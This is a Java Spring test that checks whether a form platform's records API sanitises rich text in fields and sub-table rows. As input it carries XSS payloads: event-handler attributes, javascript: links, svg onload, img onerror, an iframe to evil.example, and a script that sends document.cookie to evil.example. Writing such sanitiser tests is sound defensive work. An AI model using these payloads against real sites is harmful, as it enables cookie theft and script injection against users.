package io.mosaic.runtime.form;

import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.patch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.mosaic.api.app.AppManifest;
import io.mosaic.runtime.metadata.MetadataService;
import io.mosaic.runtime.security.SecurityTestSupport;

/** Rich text sent through the records API is stored sanitised, in fields and in sub-table rows. */
class RichTextApiTest extends SecurityTestSupport {

    @Autowired
    MetadataService metadata;

    @Autowired
    ObjectMapper json;

    private final String app = unique("rt").toLowerCase();
    private final String editor = unique("editor");

    @BeforeEach
    void publishANoticeForm() {
        String manifest = """
                {"key": "%s", "name": {"zh-CN": "公告", "en": "Notices"}, "version": "1.0.0", "platform": ">=0.1.0",
                 "roles": [{"key": "%s", "name": {"zh-CN": "编辑", "en": "Editor"},
                            "grants": [{"form": "notice", "actions": ["create", "read", "update"], "rowScope": "all"}]}],
                 "definitions": [{"kind": "form", "key": "notice"}]}""".formatted(app, editor);
        metadata.createApp(app, manifest, "analyst");
        roles.upsertAppRoles(app, AppManifest.read(manifest).roles());
        metadata.publishContent(app, "form", "notice", """
                {"key": "notice", "name": {"zh-CN": "公告", "en": "Notice"},
                 "fields": [
                   {"key": "body", "type": "richtext", "label": {"zh-CN": "正文", "en": "Body"}},
                   {"key": "sections", "type": "subtable", "label": {"zh-CN": "章节", "en": "Sections"},
                    "columns": [{"key": "text", "type": "richtext", "label": {"zh-CN": "内容", "en": "Text"}}]}]}""",
                null, "analyst");
    }

    @Test
    void storesRichTextInertInFieldsAndSubtableRows() throws Exception {
        RequestPostProcessor user = as(createDealerUser(null, null, editor));
        String created = mvc.perform(post(records()).with(user).contentType(MediaType.APPLICATION_JSON).content("""
                        {"body": "<h1 onclick=\\"x()\\">News</h1><script>fetch('//evil.example?c='+document.cookie)</script>",
                         "sections": [{"text": "<a href=\\"javascript:alert(1)\\">more</a> <svg onload=alert(1)>"},
                                      {"text": "<p><b>Safe</b> <a href=\\"https://example.com\\">link</a></p>"}]}"""))
                .andExpect(status().isCreated())
                .andReturn().getResponse().getContentAsString();
        long id = json.readTree(created).get("id").asLong();

        mvc.perform(get(records() + "/" + id).with(user))
                .andExpect(jsonPath("$.body").value("<h1>News</h1>"))
                .andExpect(jsonPath("$.sections[0].text").value("more "))
                .andExpect(jsonPath("$.sections[1].text")
                        .value("<p><b>Safe</b> <a href=\"https://example.com\" rel=\"nofollow\">link</a></p>"));
        mvc.perform(patch(records() + "/" + id).with(user).header("If-Match", "1").contentType(MediaType.APPLICATION_JSON)
                        .content("{\"body\": \"<img src=x onerror=alert(1)><iframe src=//evil.example></iframe>\"}"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.body").value("<img src=\"x\" />"));
    }

    private String records() {
        return "/api/apps/" + app + "/forms/notice/records";
    }
}
